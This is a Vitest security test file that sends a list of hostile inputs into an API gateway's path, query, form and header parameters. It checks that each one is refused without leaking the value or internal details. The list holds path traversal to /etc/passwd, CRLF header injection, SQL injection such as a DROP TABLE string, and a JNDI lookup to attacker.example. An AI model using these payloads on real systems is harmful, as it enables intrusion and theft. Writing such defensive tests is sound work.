import { afterAll, beforeAll, expect } from 'vitest';
import { type Forges, startForges } from '../support/forges.ts';
import { type Asking, ask, FORM, jsonOf, makeTenant, type Tenant } from '../support/operations.ts';
import type { RawAnswer } from '../support/raw.ts';
import { pairs, sample, threatRow } from '../support/threats.ts';

/** Values that would be a path, a query, a command or a header somewhere else, sent byte for byte. */

const row = threatRow('D12');

let gateway: Forges;
let tenant: Tenant;
beforeAll(async () => {
  gateway = await startForges();
  tenant = await makeTenant(gateway, 'acme');
});
afterAll(() => gateway?.close());

/** As they stand on the wire: Latin-1. */
const latin1 = (text: string): string => Buffer.from(text).toString('latin1');

const HOSTILE: readonly string[] = [
  '..',
  '../..',
  '../../../../etc/passwd',
  './default',
  '%2e%2e',
  '%2e%2e%2f%2e%2e%2f',
  '%2E%2E/%2E%2E',
  '..%2f..%2fetc%2fpasswd',
  '%252e%252e%252f',
  '..%5c..%5cwindows',
  '..\\..\\windows',
  '..;/..;/',
  '%c0%ae%c0%ae%c0%af',
  '%ef%bc%8e%ef%bc%8e',
  '%u002e%u002e',
  '%00',
  'default%00.json',
  '\0',
  '%0d%0aSet-Cookie:%20x=1',
  '%0a%0a',
  '%7f%1b%5b2J',
  "' OR '1'='1",
  '%27%20OR%20%271%27%3D%271',
  "';DROP TABLE evidence;--",
  '1%20UNION%20SELECT%20null',
  '$1',
  '%25',
  '%',
  '%zz',
  '%f',
  '/etc/passwd',
  '//attacker.example/x',
  'file:///etc/passwd',
  '$%7Bjndi:ldap://attacker.example/x%7D',
  '{{7*7}}',
  '__proto__',
  '-1',
  '1e309',
  'A'.repeat(9_000),
  latin1('de\u202efault\u00e9😀'),
];

// ── fourteen parameters ─────────────────────────────────────────────────────────────────────

type Place = (value: string) => Asking | Promise<Asking>;

const get = (target: string, headers: Asking['headers'] = {}): Asking => ({
  method: 'GET',
  target,
  headers: { authorization: `Bearer ${tenant.mandate}`, ...headers },
});

const inForm =
  (name: string): Place =>
  (value) => {
    const fields = { ...FORM, subject_token: gateway.issuer.issue() };
    const others = Object.entries(fields).filter(([other]) => other !== name);
    const form = new URLSearchParams(Object.fromEntries(others));
    return {
      method: 'POST',
      target: '/v1/token',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `${form}&${name}=${value.replaceAll('&', '%26')}`,
    };
  };

const inQuery =
  (name: string): Place =>
  (value) =>
    get(`/v1/evidence?${name}=${value}`);

const PLACES: Readonly<Record<string, Place>> = {
  'a policy’s name': (value) => get(`/v1/policies/${value}`),
  'a material’s digest': (value) => get(`/v1/materials/${value}`),
  'an evidence’s id': (value) => get(`/v1/evidence/${value}`),
  'a tile’s path': (value) => get(`/tile/${value}`),
  'the query’s repository': inQuery('repository'),
  'the query’s head': inQuery('head'),
  'the query’s verdict': inQuery('verdict'),
  'the query’s cursor': inQuery('after'),
  'the query’s limit': inQuery('limit'),
  'the form’s token': inForm('subject_token'),
  'the form’s type of token': inForm('subject_token_type'),
  'the form’s scope': inForm('scope'),
  'the form’s head': inForm('head'),
  'the form’s commit': inForm('commit'),
};

/** Whoever asks learns only that it is no; nothing of the value comes back, and nothing of ours. */
function expectRefused(answered: RawAnswer, value: string): void {
  expect([400, 404]).toContain(answered.status);
  const { code, error_description: said = '' } = jsonOf(answered);
  expect(code).toMatch(/^[a-z_]+$/);
  expect(answered.headers.has('set-cookie')).toBe(false);
  expect(answered.headers.get('content-type')).toMatch(/^application\/(problem\+)?json$/);
  const text = answered.body.toString('latin1');
  if (value.length > 6) expect(text).not.toContain(value);
  expect(text + said).not.toMatch(/postgres|syntax|\bat \S+:\d+|node_modules|SELECT|root:/i);
}

for (const [[name, place], value] of sample(pairs(Object.entries(PLACES), HOSTILE), 131))
  row.attack(`${name}: ${JSON.stringify(value.slice(0, 40))}`, 'refused', async () => {
    expectRefused(await ask(gateway, await place(value)), value);
  });

// ── headers, which mean nothing to whom they are not meant for ──────────────────────────────

const HEADERS = ['if-none-match', 'x-request-id', 'x-forwarded-for', 'accept', 'cookie', 'range'];

for (const name of HEADERS)
  row.twin(`the header ${name}, whatever is in it`, async () => {
    for (const value of sample(HOSTILE, 13)) {
      const answered = await ask(gateway, get('/v1/policies/default', { [name]: value }));
      // Node’s parser refuses control characters before anybody sees them.
      expect([200, 400]).toContain(answered.status);
      if (answered.status === 400) expect(jsonOf(answered).code).toBe('request_invalid');
      else expect(answered.headers.get('x-request-id')).toMatch(/^[\w.-]{1,64}$/);
    }
  });

row.twin('the header idempotency-key, whatever is in it', async () => {
  for (const value of sample(HOSTILE, 13)) {
    const headers = { 'idempotency-key': value, 'content-type': 'application/json' };
    const answered = await ask(gateway, { ...get('/v1/evidence', headers), method: 'POST', body: '{}' });
    expect([400, 422]).toContain(answered.status);
  }
});

row.twin('refused as well: the whole target', async () => {
  for (const value of HOSTILE) {
    const answered = await ask(gateway, get(value.startsWith('/') ? value : `/${value}`));
    expect([400, 404]).toContain(answered.status);
    const absolute = await ask(gateway, get(`http://attacker.example/${value}`));
    expect([400, 404]).toContain(absolute.status);
  }
  for (const target of [
    '*',
    'default',
    '?',
    '//',
    '/v1//evidence',
    '/v1/evidence/',
    '/V1/evidence',
    '/v1/./evidence',
  ])
    expect([400, 404]).toContain((await ask(gateway, get(target))).status);
});

row.twin('what the parameters are for', async () => {
  const good = [
    '/v1/policies/default',
    `/v1/policies/${tenant.policy}`,
    `/v1/materials/${tenant.material}`,
    tenant.evidence.location,
    '/tile/0/000.p/1',
    `/v1/evidence?repository=${encodeURIComponent(tenant.resource)}&head=${FORM.head}&verdict=PASSED&limit=1`,
    `/v1/evidence?after=${tenant.evidence.id}`,
    `/v1/evidence?repository=${tenant.resource.slice('git+'.length)}`,
  ];
  for (const target of good)
    expect([target, (await ask(gateway, get(target))).status]).toEqual([target, 200]);
  expect((await ask(gateway, await inForm('scope')('policy:read'))).status).toBe(200);
});
